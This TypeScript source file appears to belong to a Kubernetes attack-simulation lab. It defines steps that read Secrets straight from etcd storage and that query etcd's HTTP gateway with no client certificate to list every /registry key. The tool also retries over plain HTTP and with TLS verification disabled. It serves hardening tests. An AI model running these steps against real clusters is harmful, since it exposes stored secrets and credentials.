import { z } from 'zod';
import { request } from 'node:https';
import { request as httpRequest } from 'node:http';
import type { AttackStepKind, Evidence } from '../types.js';
import { UserError, ClusterUnreachableError } from '../../errors.js';
import { controlPlaneOf } from '../../engine/index.js';

const readSchema = z
  .object({
    /** The Secret whose values the attacker looks for in etcd's raw bytes (a stolen backup, a disk snapshot). */
    secret: z.object({ namespace: z.string(), name: z.string() }).strict(),
  })
  .strict();

/**
 * Read a Secret straight from etcd's storage, past the API server (what a stolen etcd backup or disk
 * gives): its values in plain text unless encryption at rest wrapped them.
 */
export const etcdRead: AttackStepKind<z.infer<typeof readSchema>> = {
  type: 'etcdRead',
  schema: readSchema,
  controlPlane: true,
  async run(ctx, p) {
    const { namespace, name } = p.secret;
    const raw = await controlPlaneOf(ctx.engine).etcdGet(`/registry/secrets/${namespace}/${name}`);
    if (!raw) return { succeeded: false, message: `etcd holds no /registry/secrets/${namespace}/${name}` };
    // What to look for: the Secret's values, read through the API with the lab's own credentials.
    const s: any = await ctx.cluster.read({ apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace } });
    const values = Object.entries<string>(s?.data ?? {})
      .map(([k, v]) => [k, Buffer.from(v, 'base64')] as const)
      .filter(([, v]) => v.length >= 4);
    const found = values.filter(([, v]) => raw.includes(v));
    const head = raw
      .subarray(0, 40)
      .toString('latin1')
      .replace(/[^\x20-\x7e]/g, '.');
    if (!found.length) {
      return {
        succeeded: false,
        message: `/registry/secrets/${namespace}/${name} starts with "${head.slice(0, 32)}" — ${head.startsWith('k8s:enc:') && !head.startsWith('k8s:enc:identity') ? "ciphertext: without the key in the API server's encryption config the values are noise" : 'none of its values appear in it'}`,
      };
    }
    return {
      succeeded: true,
      message: `read /registry/secrets/${namespace}/${name} from etcd: ${found.length} of ${values.length} values in plain text`,
      evidence: found.map(([k, v]) => ({ label: k, value: v.toString('utf8'), secret: true })),
    };
  },
};

const connectSchema = z
  .object({
    /** Node path of etcd's CA (trusted by the attacker's client: it only proves who etcd is). */
    caFile: z.string().startsWith('/').default('/etc/kubernetes/pki/etcd/ca.crt'),
    /** A Secret the attacker then reads through the same connection: its values found in what etcd hands over. */
    read: z
      .object({ secret: z.object({ namespace: z.string(), name: z.string() }).strict() })
      .strict()
      .optional(),
  })
  .strict();

type Answer = { ok: true; status: number; body: string; url: string } | { ok: false; why: string; code?: string };

function post(url: string, ca: string | undefined, path: string, body: string): Promise<Answer> {
  return new Promise((resolve) => {
    const send = new URL(url).protocol === 'http:' ? httpRequest : request;
    const req = send(
      new URL(path, url),
      { method: 'POST', ca, rejectUnauthorized: !!ca, timeout: 4000, agent: false, headers: { 'Content-Type': 'application/json' } },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ ok: true, status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8'), url }));
        res.on('error', (e: any) => resolve({ ok: false, why: e.message, code: e.code }));
      },
    );
    req.on('timeout', () => req.destroy(Object.assign(new Error('no answer within 4 s'), { code: 'ETIMEDOUT' })));
    req.on('error', (e: any) => resolve({ ok: false, why: e.message, code: e.code }));
    req.end(body);
  });
}

/**
 * Talk to etcd with no client certificate (someone who reached its port): list every key under
 * /registry through etcd's own HTTP gateway. etcd that asks for a client certificate ends the TLS
 * handshake instead.
 */
export const etcdConnect: AttackStepKind<z.infer<typeof connectSchema>> = {
  type: 'etcdConnect',
  schema: connectSchema,
  controlPlane: true,
  async run(ctx, p) {
    const url = (await ctx.engine.status()).endpoints.etcd;
    if (!url) throw new UserError(`the ${ctx.engine.name} engine does not expose etcd's client URL`);
    const ca = await controlPlaneOf(ctx.engine).readNodeFile(p.caFile);
    const b64 = (s: string) => Buffer.from(s).toString('base64');
    const range = JSON.stringify({ key: b64('/registry/'), range_end: b64('/registry0'), keys_only: true });
    let a = await post(url, ca, '/v3/kv/range', range);
    // etcd that does not speak TLS at all: the attacker just uses http://.
    if (!a.ok && /WRONG_VERSION_NUMBER|wrong version number|PACKET_LENGTH_TOO_LONG/i.test(`${a.code} ${a.why}`))
      a = await post(url.replace(/^https:/, 'http:'), undefined, '/v3/kv/range', range);
    // A server certificate the attacker's client cannot verify stops no attacker (curl -k): try again without checking it.
    if (!a.ok && /CERT|SELF_SIGNED|UNABLE_TO_VERIFY|ALTNAME/.test(a.code ?? '')) a = await post(url, undefined, '/v3/kv/range', range);
    if (!a.ok) {
      if (a.code === 'ECONNREFUSED' || a.code === 'ETIMEDOUT') throw new ClusterUnreachableError(`etcd at ${url}: ${a.why}`);
      const alert = /(?:tlsv13|sslv3|tlsv1) alert ([a-z ]+)/i.exec(a.why)?.[1];
      return {
        succeeded: false,
        message: `etcd at ${url} ended the TLS handshake (${alert ? `TLS alert: ${alert}` : a.why.split('\n')[0]}) — it wants a client certificate signed by its CA`,
      };
    }
    if (a.status !== 200) return { succeeded: false, message: `etcd at ${url} answered POST /v3/kv/range with HTTP ${a.status}` };
    const keys: string[] = (JSON.parse(a.body).kvs ?? []).map((kv: any) => Buffer.from(kv.key, 'base64').toString());
    const secrets = keys.filter((k) => k.startsWith('/registry/secrets/'));
    const evidence: Evidence[] = [{ label: 'Secret keys', value: `${secrets.length} (${secrets.slice(0, 3).join(', ')}${secrets.length > 3 ? ', …' : ''})` }];
    let also = '';
    if (p.read) {
      // The same connection, one key: the Secret as etcd stores it, and its values looked for in it.
      const { namespace, name } = p.read.secret;
      const key = `/registry/secrets/${namespace}/${name}`;
      const one = await post(a.url, ca, '/v3/kv/range', JSON.stringify({ key: b64(key) }));
      const kv = one.ok && one.status === 200 ? (JSON.parse(one.body).kvs ?? [])[0] : undefined;
      const raw = kv?.value ? Buffer.from(kv.value, 'base64') : undefined;
      const s: any = await ctx.cluster.read({ apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace } });
      const values = Object.entries<string>(s?.data ?? {})
        .map(([k, v]) => [k, Buffer.from(v, 'base64')] as const)
        .filter(([, v]) => v.length >= 4);
      const found = raw ? values.filter(([, v]) => raw.includes(v)) : [];
      evidence.unshift(...found.map(([k, v]) => ({ label: `${key} ${k}`, value: v.toString('utf8'), secret: true })));
      also = raw
        ? found.length
          ? `; ${key}: ${found.length} of ${values.length} values in plain text`
          : `; ${key} came back, but none of its values in plain text`
        : `; ${key} did not come back`;
    }
    return {
      succeeded: true,
      message: `etcd at ${a.url} answered a client with no certificate: ${keys.length} keys under /registry/${also}`,
      evidence,
    };
  },
};
